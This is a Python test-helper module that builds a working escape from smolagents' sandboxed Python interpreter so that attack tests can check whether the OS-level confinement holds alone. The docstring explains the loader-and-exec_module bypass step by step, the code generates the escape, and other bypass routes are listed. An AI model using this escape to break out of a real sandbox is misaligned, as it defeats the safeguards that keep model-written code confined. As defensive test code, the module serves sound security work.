"""An escape vehicle for end-to-end attack tests of the sandbox child's operating-system layer.

Our standing assumption is that model-written code *can* get out of the Python-level checks
(``code_policy.check_code`` plus smolagents' ``LocalPythonExecutor``) and run arbitrary native
Python in the sandbox child. The OS layer (``confinement``: Landlock, seccomp, rlimits) must
hold alone. To test it the way an attacker would reach it, ``escape(source)`` returns
model-written code (the body of a ```python block) that passes ``check_code`` and, run by the
child, executes ``source`` natively with the real builtins (``import os``, ``open``, ``exec``
all work; whatever Landlock/seccomp allow is what it gets).

The hole it uses (smolagents 1.26, checked against ``local_python_executor.py``)
------------------------------------------------------------------------------------
1. ``from random import __loader__ as lb_escape_loader``. The policy only inspects
   ``ast.Name`` and ``ast.Attribute`` nodes; the names of a ``from ... import`` are
   ``ast.alias`` nodes and are never checked, dunders included. smolagents'
   ``evaluate_import`` only checks the *module* (``random`` is in its
   ``BASE_BUILTIN_MODULES``, authorized whatever local-brain passes) and then binds
   ``getattr(module, name)`` for any name. ``random`` is a source module, so this is the
   real ``SourceFileLoader`` shared with ``sys.modules["random"]``.
2. ``lb_escape_loader.source_to_code(native, "<lb-escape>")`` is ``compile()``: a real
   code object. ``check_safer_result`` only refuses unauthorized modules, module
   dictionaries and functions *named* exec/eval/compile/...; loaders and code objects pass.
3. ``lb_escape_loader.get_code = lambda name: lb_escape_code``. Setting attributes on
   arbitrary objects is allowed, and an instance attribute shadows
   ``SourceLoader.get_code``.
4. ``import math as lb_escape_ns`` and ``lb_escape_loader.exec_module(lb_escape_ns)``:
   ``_LoaderBasics.exec_module`` calls ``self.get_code(...)`` and then
   ``exec(code, module.__dict__)``. The module copy smolagents made has no
   ``__builtins__``, so ``exec`` inserts the real builtins: the code runs natively.

The native wrapper first removes the ``get_code`` patch again (so the child's ``random``
loader is left as it was, and the vehicle can be used any number of times), then runs
``source`` in a fresh namespace with ``sys.stdout``/``sys.stderr`` redirected to a buffer:
the child's real stdout is the JSON channel to the parent and must not be written to. (A
payload that writes to file descriptor 1 directly, e.g. ``os.write(1, ...)``, will corrupt
that channel.) The buffer comes back through the interpreter (``print``), so it reaches the
step's logs/observation. A payload that raises makes the step fail with the traceback in the
error (``SandboxError`` from ``SandboxExecutor``); its printed output is still in the logs.

Other routes the review reported (not used here): smolagents' ``evaluate_name`` resolves an
unknown name to a close match among ``state`` keys (``difflib.get_close_matches``), which
reaches private entries such as ``_print_outputs``; and ``from collections import _sys``
style imports of private module attributes.

Why it is kept: the OS layer is tested as if the interpreter were already beaten. If the
Python-level hole is closed one day, this vehicle must fail loudly rather than let attack
tests pass vacuously: the step then raises (policy refusal or interpreter error), and
``assert_escaped`` fails when the marker that only the native code prints is missing.
Replace the vehicle with another working escape; do not delete the attack tests.
"""

from __future__ import annotations

import re

ESCAPED_MARKER = "lb-escape-vehicle: native code ran in pid"
VEHICLE_MODULE = "random"  # authorized by smolagents itself, and a source module

_MARKER_PATTERN = re.compile(re.escape(ESCAPED_MARKER) + r" (\d+)")

# Runs natively inside ``exec_module``; ``{source!r}`` is the payload.
_NATIVE_WRAPPER = """\
vars(__import__({module!r}).__loader__).pop("get_code", None)  # undo the patch first
import contextlib, io, os, traceback
escape_buffer = io.StringIO()
escape_error = ""
with contextlib.redirect_stdout(escape_buffer), contextlib.redirect_stderr(escape_buffer):
    print({marker!r}, os.getpid())
    try:
        exec(compile({source!r}, "<lb-escaped>", "exec"), {{"__name__": "__lb_escaped__"}})
    except BaseException:
        escape_error = traceback.format_exc()
escape_output = escape_buffer.getvalue().removesuffix("\\n")
"""

# What the model would write: passes check_code, runs in smolagents' interpreter.
_MODEL_CODE = """\
from {module} import __loader__ as lb_escape_loader
lb_escape_code = lb_escape_loader.source_to_code({native!r}, "<lb-escape>")
lb_escape_loader.get_code = lambda name: lb_escape_code
import math as lb_escape_ns
lb_escape_loader.exec_module(lb_escape_ns)
print(lb_escape_ns.escape_output)
if lb_escape_ns.escape_error:
    raise RuntimeError("escaped code raised: " + lb_escape_ns.escape_error)
"""


def escape(source: str) -> str:
    """Model-written code that runs ``source`` natively (real builtins) in the sandbox child.

    What ``source`` prints (stdout and stderr) appears in the step's logs after a marker
    line; check it with ``assert_escaped``. An exception escaping ``source`` fails the step.
    """
    native = _NATIVE_WRAPPER.format(module=VEHICLE_MODULE, marker=ESCAPED_MARKER, source=source)
    return _MODEL_CODE.format(module=VEHICLE_MODULE, native=native)


def assert_escaped(observation: str, pid: int | None = None) -> int:
    """Fail unless ``observation`` shows that escaped native code ran (optionally in ``pid``).

    Returns the pid the native code reported. Call it in every attack test that uses
    ``escape``, so a closed Python-level hole cannot make the test pass without the OS layer
    having been attacked at all.
    """
    found = _MARKER_PATTERN.search(observation)
    assert found is not None, (
        "the escape vehicle did not run native code; the Python-level hole it relies on "
        "may be closed (see tests/attacks.py) and a new vehicle is needed. "
        f"Observation: {observation!r}"
    )
    native_pid = int(found.group(1))
    if pid is not None:
        assert native_pid == pid, f"native code ran in pid {native_pid}, expected {pid}"
    return native_pid
